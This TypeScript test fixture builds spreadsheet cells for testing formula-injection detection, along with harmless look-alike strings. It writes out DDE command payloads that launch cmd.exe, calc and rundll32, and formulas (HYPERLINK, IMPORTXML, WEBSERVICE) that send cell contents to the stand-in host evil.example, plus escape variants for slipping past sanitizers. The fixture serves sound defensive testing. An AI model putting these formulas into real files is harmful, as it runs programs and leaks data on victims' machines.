import type { Cell } from './cell.ts';

const leads = ['=', '+', '-', '@', '=+', '=-', '\t=', '\r\n=', ' =', '"=', '\uff1d', '\uff0b'];
const before = ['', '1+1+', '2*3-', '(', 'A1&', '$B$2+'];
const exchanges = [
  "cmd|'/C calc'!A0",
  "cmd|' /C notepad'!'A1'",
  "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  "other|'x y'!A1",
];
const reaching = [
  'HYPERLINK("http://evil.example/?a="&A1,"open")',
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
  'IMPORTDATA("http://evil.example")',
  'IMAGE("http://evil.example/a.png")',
  'DDE("cmd";"/C calc";"a")',
  'hyperlink("http://evil.example")',
];
const usual = ['SUM(1,1)', 'CONCATENATE("a","b")', 'CHAR(65)', 'NOW()', 'IF(1=1,"a","b")'];
const endings = ['a","', 'a"\n"', 'a\n', 'a\t', 'a";"'];

/** Cells that a spreadsheet calculates: what begins one × what it computes first × what it calls, and cells behind a cell that a value ends. */
export const formulas: readonly Cell[] = [
  ...leads.flatMap((lead) =>
    before.flatMap((first) =>
      [...exchanges, ...reaching].map((call) => ({ name: `${JSON.stringify(lead)}, ${first}, ${call}`, text: lead + first + call })),
    ),
  ),
  ...leads.flatMap((lead) => usual.map((call) => ({ name: `${JSON.stringify(lead)}, ${call}`, text: lead + call }))),
  ...endings.flatMap((ending) =>
    [...exchanges, ...reaching].map((call) => ({ name: `behind ${JSON.stringify(ending)}, ${call}`, text: `${ending}=${call}` })),
  ),
];

const signs = ['=', '+', '-', '@', '=>', '==', '--', '->', '+-', '- ', '@@'];
const words = [
  '',
  '5',
  '49 30 (0) 123456',
  '1.5e3',
  ' sum (net)',
  'a|b',
  'jane',
  'jane (work)',
  'see (below)',
  '5 %',
  '12:30',
  'a(b)',
  'sum(a)',
  ' call me (please) | or write!',
  'x=1',
  '2024-01-02',
  'if(a)',
  '$HOME',
];

/** Numbers, names, lists and code that begin with the same signs. */
export const plainSigns: readonly Cell[] = [
  // `=sum(a)` and `=if(a)` are formulas wherever they stand.
  ...signs.flatMap((lead) =>
    words.filter((word) => lead !== '=' || !/^(?:sum|if)\(/.test(word)).map((word) => ({ name: lead, text: lead + word })),
  ),
  ...[
    'a = SUM(b)',
    'total: =SUM(A1)',
    'x\n- one (a)\n- two | three!\n+ four',
    'a,b\n-1,+2\n',
    '"a","-b","=c"',
    'one\ttwo\t-three',
    'a=b&c=d',
    'x\n=SUM(A1)',
  ].map((text) => ({ name: text, text })),
];
